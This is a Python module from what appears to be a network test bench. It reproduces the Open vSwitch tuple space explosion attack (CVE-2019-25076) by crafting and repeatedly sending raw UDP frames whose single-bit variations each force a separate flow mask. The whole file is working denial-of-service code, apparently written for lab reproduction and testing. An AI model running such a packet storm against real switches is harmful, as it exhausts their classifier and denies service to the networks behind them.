# SPDX-License-Identifier: Apache-2.0
"""Packets of which each makes a flow with a mask of its own (tuple space explosion, CVE-2019-25076).

The access list allows one source address and one source port (in lib/ovs.py, "access-list").  Open vSwitch tells
other packets apart from these by as few leading bits as it must: one mask for each pair of "first bit of the address
that differs" and "first bit of the port that differs"."""

import socket
import struct
import threading

from bench.lib import world

ALLOWED_IP = "192.168.77.77"
ALLOWED_PORT = 0xc0de
N_FRAMES = 32 * 16
INTERVAL = 0.002                            # Seconds between two packets.


class Storm:
    """Sends the packets in turn, from the generator's end of the first port, until it is stopped."""

    def __init__(self, w):
        self._frames = [frame(i) for i in range(N_FRAMES)]
        self._sock = w.raw_socket("gen", "g0")
        self._stop, self._sent_all = threading.Event(), threading.Event()
        self._thread = threading.Thread(target=self._run)
        self._thread.start()

    def _run(self):
        while not self._stop.is_set():
            for each in self._frames:
                self._sock.send(each)
                if self._stop.wait(INTERVAL):
                    return
            self._sent_all.set()

    def wait_until_all_sent(self, limit=20):
        if not self._sent_all.wait(limit):
            raise world.Failed(f"the attack's packets could not be sent within {limit} seconds")

    def stop(self):
        self._stop.set()
        self._thread.join()
        self._sock.close()


def frame(number):
    """60 bytes, UDP, from an address and a port of which one bit each is wrong.  The switch looks at no checksum."""
    source = int.from_bytes(socket.inet_aton(ALLOWED_IP), "big") ^ 1 << number % 32
    port = ALLOWED_PORT ^ 1 << number // 32
    return b"".join([bytes.fromhex((world.SINK_MAC + world.GENERATOR_MAC).replace(":", "")),
                     struct.pack(">HBBHHHBBHI4sHHHH", 0x0800, 0x45, 0, 46, 0, 0, 64, 17, 0, source,
                                 socket.inet_aton(world.SINK_IP), port, 53, 26, 0), bytes(18)])
